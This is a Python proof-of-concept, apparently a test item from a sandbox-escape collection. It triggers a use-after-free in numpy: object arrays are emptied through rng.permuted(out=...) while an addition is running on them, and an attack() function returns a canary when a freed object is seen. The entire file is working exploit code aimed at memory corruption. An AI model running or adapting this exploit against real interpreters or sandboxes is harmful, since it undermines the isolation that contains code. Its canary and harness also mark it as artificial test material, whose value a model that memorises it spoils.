"""Class: memory. Source: own find. Escape: a generator's out= empties an array of objects while it is
added; the object that numpy hands to the next method has been freed, and is another by now."""

import numpy as np


class Other:
    def __init__(self):
        self.x = 0


class Left:
    def __init__(self):
        self.x = 1

    def __add__(self, other):
        draw.permuted(nothing, out=a)
        draw.permuted(nothing, out=b)
        return NotImplemented


class Right:
    def __init__(self):
        self.x = 1

    def __radd__(self, other):
        kept.extend(Other() for _ in range(20_000))
        if type(other) is not Left:
            seen.append("canary-" + "5d1f")
        return 0


draw = np.random.default_rng(0)
kept = []
seen = []
nothing = np.array([0] * 100, dtype=object)
a = np.array([Left() for _ in range(100)], dtype=object)
b = np.array([Right() for _ in range(100)], dtype=object)


def attack(model, tokenizer, address):
    a + b
    return seen
